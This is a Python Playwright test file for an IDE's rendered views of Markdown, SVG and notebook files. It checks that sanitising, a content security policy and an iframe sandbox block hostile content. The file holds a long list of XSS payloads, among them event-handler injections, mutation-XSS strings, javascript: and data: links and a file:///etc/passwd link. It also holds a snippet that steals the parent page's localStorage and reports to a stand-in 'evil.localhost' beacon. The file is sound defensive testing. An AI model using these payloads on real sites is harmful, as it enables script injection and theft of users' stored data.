"""Markdown, notebooks and drawings that would rather be programs: rendered they run nothing and reach nothing.

Three guards stand before each other: what is not for reading is cleaned out, the frame's policy lets nothing load or
run, and its sandbox has no origin. The tests take them out, one and all, and then the same attack is noticed.
"""

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
from playwright.async_api import FrameLocator, Page

from server.routes import pages, rendered
from tests.hostile.conftest import World

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

HACK = "try{parent.localStorage.secret='stolen'}catch{};fetch('BEACON/ran')"
HTML = """
<script>HACK</script><img src=x: onerror="HACK"><body onload="HACK">
<svg onload="HACK"><image href="BEACON/drawn"/></svg>
<details open ontoggle="HACK"><summary>s</summary>d</details><input autofocus onfocus="HACK"><video src onerror="HACK">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=HACK&gt;">
<noscript><p title="</noscript><img src=x: onerror='HACK'>"></p></noscript>
<iframe src="BEACON/framed"></iframe><iframe srcdoc="<script>HACK</script>"></iframe>
<object data="BEACON/object"></object><embed src="BEACON/embed">
<img src="BEACON/img"><img srcset="BEACON/srcset 2x">
<picture><source srcset="BEACON/source"><img src="x:"></picture><video poster="BEACON/poster"></video>
<audio src="BEACON/audio" autoplay></audio><input type=image src="BEACON/input">
<table background="BEACON/table"></table>
<link rel=stylesheet href="BEACON/css"><link rel=preconnect href="BEACON"><link rel=prefetch href="BEACON/prefetch">
<style>@import url(BEACON/import); body { background: url(BEACON/background) }</style>
<p style="background: url(BEACON/style)">p</p><base href="BEACON/base/">
<form action="BEACON/form"><button>send</button></form>
<a id=js href="javascript:HACK">script</a> <a id=blank href=" java&#10;script:HACK" target=_blank>script</a>
<a id=data href="data:text/html,<script>HACK</script>">data</a> <a id=file href="file:///etc/passwd">file</a>
"""
REFRESH = '<meta http-equiv=refresh content="0;url=BEACON/refresh">'
MARKDOWN = (
    HTML + REFRESH + "\n\n![m](BEACON/markdown)\n\n[m](javascript:HACK)\n\n" + "> " * 3000 + "deep\n\n" + "<div>" * 5000
)
SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"
onload="HACK"><script>HACK</script><script xlink:href="BEACON/script"/><image href="BEACON/image" width="9" height="9"/>
<style>@import url(BEACON/css);</style><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">
<img src="BEACON/foreign"/><iframe src="BEACON/framed"/></body></foreignObject></svg>"""
OUTPUT = {"output_type": "display_data", "data": {"text/html": [HTML], "image/png": '"><img src=x: onerror=HACK>'}}
NOTEBOOK = json.dumps(
    {
        "cells": [
            {"cell_type": "markdown", "source": MARKDOWN},
            {"cell_type": "code", "execution_count": "<img src=x: onerror=HACK>", "outputs": [OUTPUT], "source": HTML},
            {"cell_type": "code", "outputs": [{"output_type": "display_data", "data": {"image/svg+xml": SVG}}]},
            {"cell_type": HTML, "source": HTML},
        ]
    }
)
UNCLEANED = """addEventListener("message", ({ ports: [port] }) => {
  port.onmessage = ({ data }) => {
    if (data.type !== "show") return;
    document.body.append(document.createRange().createContextualFragment(data.text));
    port.postMessage({ type: "shown" });
  };
});"""


class Beacon:
    """A host that hears of whoever connects."""

    def __init__(self) -> None:
        self.heard: set[str] = set()
        self.url = ""
        self._news = asyncio.Event()

    async def hear(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.heard.add("connection")
        line = (await reader.readline()).decode().split(" ")
        self.heard.update(line[1:2])
        self._news.set()
        writer.close()

    async def expect(self, *paths: str) -> None:
        """Return once all of these were asked for: on a machine with much to do that takes a while."""
        async with asyncio.timeout(30):
            while not self.heard.issuperset(paths):
                self._news.clear()
                await self._news.wait()


@asynccontextmanager
async def listening() -> AsyncIterator[Beacon]:
    beacon = Beacon()
    server = await asyncio.start_server(beacon.hear, "127.0.0.1", 0)
    beacon.url = f"http://evil.localhost:{server.sockets[0].getsockname()[1]}"
    async with server:
        yield beacon


async def take_out(monkeypatch: pytest.MonkeyPatch, page: Page, *guards: str) -> None:
    if "policy" in guards:
        monkeypatch.setattr(rendered, "policy", lambda origin: "")
    if "cleaning" in guards:
        await page.route("**/static/dist/rendered.js", lambda route: route.fulfill(body=UNCLEANED))
    if "sandbox" in guards:
        await page.add_init_script(
            """const set = Element.prototype.setAttribute;
            Element.prototype.setAttribute = function (name, value) {
              if (name !== "sandbox") set.call(this, name, value);
            };"""
        )


async def show(world: World, page: Page, beacon: Beacon, name: str, text: str) -> FrameLocator:
    """Open the file rendered, in an IDE that has something to steal."""
    content = text.replace("HACK", HACK).replace("BEACON", beacon.url)
    await world.app.services.documents.write(world.project, name, content.encode())
    await page.goto(f"{world.ide}/login")
    await page.evaluate("localStorage.clear(); localStorage.secret = 'of the IDE'")
    await page.goto(f"{world.ide_page}#{name}")
    title = page.get_by_role("textbox", name=name, include_hidden=True)
    surface = page.locator(".surface:not(.behind)").filter(has=title)
    await surface.get_by_role("button", name="Rendered", exact=True).click()
    await surface.locator("iframe.rendered[data-shown]").wait_for()
    # What must not come can't be waited for; what would come has come by then.
    await page.wait_for_timeout(400)
    return surface.locator("iframe.rendered").content_frame


async def secret(page: Page) -> str:
    kept: str = await page.evaluate("localStorage.secret")
    return kept


FILES = {"hostile.md": MARKDOWN, "hostile.svg": SVG, "hostile.ipynb": NOTEBOOK}


@pytest.mark.parametrize("guards", [(), ("policy",)])
async def test_what_is_cleaned_runs_nothing_and_asks_for_nothing(
    world: World, page: Page, monkeypatch: pytest.MonkeyPatch, guards: tuple[str, ...]
) -> None:
    await take_out(monkeypatch, page, *guards)
    async with listening() as beacon:
        for name, text in FILES.items():
            links = (await show(world, page, beacon, name, text)).locator("a, summary, button")
            for number in range(await links.count()):
                await links.nth(number).dispatch_event("click")
            await page.wait_for_timeout(200)
            assert page.url == world.ide_page and len(page.context.pages) == 1
            assert (await secret(page), beacon.heard) == ("of the IDE", set()), name


async def test_the_policy_alone_lets_nothing_run_or_load(
    world: World, page: Page, monkeypatch: pytest.MonkeyPatch
) -> None:
    await take_out(monkeypatch, page, "cleaning", "sandbox")
    async with listening() as beacon:
        await show(world, page, beacon, "hostile.md", HTML)
        # To connect is not to load, which is what the cleaning is for too.
        assert beacon.heard <= {"connection"} and await secret(page) == "of the IDE"


async def test_the_sandbox_alone_keeps_the_storage(world: World, page: Page, monkeypatch: pytest.MonkeyPatch) -> None:
    await take_out(monkeypatch, page, "cleaning", "policy")
    async with listening() as beacon:
        await show(world, page, beacon, "hostile.md", HTML)
        await beacon.expect("/ran", "/img", "/css")
        assert await secret(page) == "of the IDE"


async def test_with_no_guard_the_attack_succeeds(world: World, page: Page, monkeypatch: pytest.MonkeyPatch) -> None:
    await take_out(monkeypatch, page, "cleaning", "policy", "sandbox")
    async with listening() as beacon:
        await show(world, page, beacon, "hostile.md", HTML)
        assert await secret(page) == "stolen"


PLAYLIST = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nBEACON/segment.ts\n#EXT-X-ENDLIST\n"
"""A film that is a list of addresses, which the browser would play from. The end is no text, or it would be edited."""


@pytest.mark.parametrize("guarded", [True, False])
async def test_a_film_asks_for_nothing_but_itself(
    world: World, page: Page, monkeypatch: pytest.MonkeyPatch, guarded: bool
) -> None:
    if not guarded:
        whole = pages.policy
        monkeypatch.setattr(pages, "policy", lambda *args: whole(*args).replace("media-src 'self'", "media-src *"))
    async with listening() as beacon:
        text = PLAYLIST.replace("BEACON", beacon.url)
        await world.app.services.documents.write(world.project, "film.mp4", text.encode() + b"#\xff\0\n")
        await page.goto(f"{world.ide}/login")
        await page.goto(f"{world.ide_page}#film.mp4")
        await page.locator(".surface:not(.behind) video").focus()
        await page.keyboard.press("Space")
        await page.get_by_text("The browser can’t play this file.").wait_for()
        assert beacon.heard == (set() if guarded else {"connection", "/segment.ts"})
